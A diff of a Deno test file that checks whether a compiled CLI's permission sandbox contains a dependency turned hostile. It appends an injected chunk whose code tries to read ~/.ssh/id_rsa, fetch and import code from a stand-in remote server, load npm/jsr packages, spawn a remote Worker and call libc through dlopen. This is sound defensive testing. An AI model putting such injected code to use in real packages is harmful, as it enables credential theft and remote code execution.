@@ -5,16 +5,22 @@
 import assert from "node:assert/strict";
 // @ts-types="yaml/types"
 import { parse } from "yaml";
-import { bundle, compile } from "../../scripts/compile.ts";
+import { bundleProgram } from "../../scripts/bundle.ts";
+import { compile } from "../../scripts/compile.ts";
 import { ownTarget, programFile, type Target } from "../../scripts/targets.ts";
 import { compileProgram, denoForCompiling } from "./deno_for_compiling.ts";
 import { start, testIf } from "./program.ts";
 import { chainedConfig } from "./world.ts";
 
-/** 220 MB are fetched for it, so it is asked for. */
-const ASKED = Deno.env.get("ATMOS_TEST_COMPILE") === "true";
+/** 220 MB are fetched for it, so it is asked for: with `true`; with `own` this Deno compiles, and fetches its runtime. */
+const COMPILE = Deno.env.get("ATMOS_TEST_COMPILE") ?? "";
+const ASKED = ["true", "own"].includes(COMPILE);
 const directory = ASKED ? await Deno.makeTempDir({ prefix: "atmos-compiled-" }) : "";
-const deno = ASKED ? await denoForCompiling(`${directory}/deno`) : "ATMOS_TEST_COMPILE is not true";
+const deno = COMPILE === "own"
+  ? { compiler: Deno.execPath(), runtime: Deno.env.get("DENORT_BIN") }
+  : ASKED
+  ? await denoForCompiling(`${directory}/deno`)
+  : "ATMOS_TEST_COMPILE is not true";
 const target = ownTarget();
 if (ASKED) globalThis.addEventListener("unload", () => Deno.removeSync(directory, { recursive: true }));
 
@@ -137,12 +143,20 @@ compiledTest("neither words nor variables of Deno widen what it may do", async (
   assert.match(flags.stderr, /--allow-all/);
 });
 
-/** Attempts of hostile code, each with what it says when it is let through. */
+/** Attempts of hostile code, each with what it says when it is let through; `ELSEWHERE` is a server's `host:port`. */
 const ATTEMPTS = `{
   read: () => Deno.readTextFileSync(Deno.env.get("HOME") + "/.ssh/id_rsa"),
   run: () => new Deno.Command("true").outputSync().code,
-  fetch: async () => (await fetch(Deno.env.get("ELSEWHERE") + "/fetched")).text(),
-  remote: () => import(Deno.env.get("ELSEWHERE") + "/imported.js"),
+  fetch: async () => (await fetch("http://" + Deno.env.get("ELSEWHERE") + "/fetched")).text(),
+  remote: () => import("http://" + Deno.env.get("ELSEWHERE") + "/imported.js"),
+  secure: () => import("https://" + Deno.env.get("ELSEWHERE") + "/imported.js"),
+  npm: () => import("npm:" + "left-pad@1.3.0"),
+  jsr: () => import("jsr:" + "@std/assert@1"),
+  worker: () => new Promise((resolve, reject) => {
+    const worker = new Worker("http://" + Deno.env.get("ELSEWHERE") + "/worker.js", { type: "module" });
+    worker.onmessage = () => resolve("it ran");
+    worker.onerror = (event) => { event.preventDefault(); reject(new RangeError(event.message)); };
+  }),
   native: () => Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", { getpid: { parameters: [], result: "i32" } }).symbols.getpid(),
   hostname: () => Deno.hostname(),
   ask: async () => (await Deno.permissions.request({ name: "ffi" })).state === "granted" || fail("denied"),
@@ -151,50 +165,93 @@ const ATTEMPTS = `{
 /** The program with a dependency that turned hostile: it waits until the command is under way. */
 async function withHostileChunk({ target, compiling }: Made, home: string, command: string): Promise<string> {
   const stage = await Deno.makeTempDir({ dir: home });
-  await bundle(`${stage}/bundle`, "--minify");
+  await bundleProgram(`${stage}/bundle`);
+  // What is started often is in one file; there hostile code waits for the same time.
+  const prefix = command === "env" ? "start." : `${command}-`;
   const chunk = (await Array.fromAsync(Deno.readDir(`${stage}/bundle`), ({ name }) => name))
-    .find((name) => name.startsWith(`${command}-`));
+    .find((name) => name.startsWith(prefix));
   assert.ok(chunk !== undefined, `a chunk of ${command}`);
   const hostile = `;{
     const fail = (word) => { throw new Error(word); };
     const attempt = async () => {
+      // A worker that failed keeps nobody alive.
+      const alive = setInterval(() => {}, 100);
       const told = {};
       for (const [name, act] of Object.entries(${ATTEMPTS})) {
         try { told[name] = "let through: " + String(await act()); } catch (error) { told[name] = error.name; }
       }
       Deno.writeTextFileSync(Deno.env.get("REPORT"), JSON.stringify(told));
+      clearInterval(alive);
     };
-    queueMicrotask(() => setTimeout(attempt, 0));
+    const attempted = new Promise((resolve) => queueMicrotask(() => setTimeout(() => attempt().then(resolve), 0)));
     const exit = Deno.exit.bind(Deno);
-    Deno.exit = (code) => void setTimeout(() => exit(code), 500);
+    Deno.exit = (code) => void attempted.then(() => exit(code));
   }`;
   await Deno.writeTextFile(`${stage}/bundle/${chunk}`, hostile, { append: true });
   await compile(stage, `${stage}/hostile`, target, compiling);
   return `${stage}/hostile`;
 }
 
-/** What hostile code got done below a command, on a terminal, and which pages it reached elsewhere. */
-async function attempts(made: Made, home: string, command: string) {
+/** A server that has code for who asks, and remembers every connection by its first line. */
+function elsewhere(): AsyncDisposable & { readonly host: string; readonly reached: readonly string[] } {
+  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
   const reached: string[] = [];
-  await using server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
-    reached.push(new URL(request.url).pathname);
-    return new Response("export {};", {
-      headers: { "content-type": "text/javascript", connection: "close" },
-    });
-  });
+  const code = "postMessage?.('run'); export {};";
+  const answer = `HTTP/1.1 200 OK\r\ncontent-type: text/javascript\r\ncontent-length: ${code.length}\r\n` +
+    `connection: close\r\n\r\n${code}`;
+  const serving = (async () => {
+    for await (const connection of listener) {
+      const buffer = new Uint8Array(4096);
+      const count = await connection.read(buffer) ?? 0;
+      // A TLS handshake is no text, and counts as well.
+      reached.push(new TextDecoder().decode(buffer.subarray(0, count)).split("\r\n")[0] ?? "");
+      await connection.write(new TextEncoder().encode(answer));
+      connection.close();
+    }
+  })();
+  return {
+    host: `127.0.0.1:${listener.addr.port}`,
+    reached,
+    [Symbol.asyncDispose]: async () => {
+      listener.close();
+      await serving;
+    },
+  };
+}
+
+/** What hostile code got done below a command, on a terminal, and what it reached elsewhere. */
+async function attempts(made: Made, home: string, command: string) {
+  await using server = elsewhere();
   await Deno.writeTextFile(`${home}/atmos.yaml`, chainedConfig("https://mycompany.awsapps.com/start"));
   await Deno.mkdir(`${home}/.ssh`);
   await Deno.writeTextFile(`${home}/.ssh/id_rsa`, "not a real key");
   const hostile = await withHostileChunk(made, home, command);
-  const env = { REPORT: `${home}/report`, ELSEWHERE: `http://127.0.0.1:${server.addr.port}` };
+  const env = {
+    REPORT: `${home}/report`,
+    ELSEWHERE: server.host,
+    NPM_CONFIG_REGISTRY: `http://${server.host}/npm/`,
+    JSR_URL: `http://${server.host}/jsr/`,
+  };
   // Where Deno would ask, were it not told not to.
   const onTerminal = ["script", "-qec", `${hostile} auth ${command} --interactive=false`, "/dev/null"];
-  const { stdout } = await run(["timeout", "30", ...onTerminal], home, env);
+  const { stdout } = await run(["timeout", "60", ...onTerminal], home, env);
   assert.doesNotMatch(stdout, /Allow\?|\[y\/n/);
-  return { told: JSON.parse(await Deno.readTextFile(`${home}/report`)), reached };
+  const report = await Deno.readTextFile(`${home}/report`).catch((cause) =>
+    assert.fail(`${stdout}\n${cause}`)
+  );
+  return { told: JSON.parse(report), reached: [...server.reached] };
 }
 
-const ALWAYS = { remote: "TypeError", native: "NotCapable", hostname: "NotCapable", ask: "Error" };
+const ALWAYS = {
+  remote: "TypeError",
+  secure: "TypeError",
+  npm: "TypeError",
+  jsr: "TypeError",
+  worker: "RangeError",
+  native: "NotCapable",
+  hostname: "NotCapable",
+  ask: "Error",
+};
 
 compiledTest(
   "hostile code in `validate` can start nothing, reach nothing, load nothing and ask nobody; it can read",
@@ -214,9 +271,9 @@ compiledTest(
         ...ALWAYS,
         read: "let through: not a real key",
         run: "let through: 0",
-        fetch: "let through: export {};",
+        fetch: "let through: postMessage?.('run'); export {};",
       },
-      reached: ["/fetched"],
+      reached: ["GET /fetched HTTP/1.1"],
     });
   },
 );
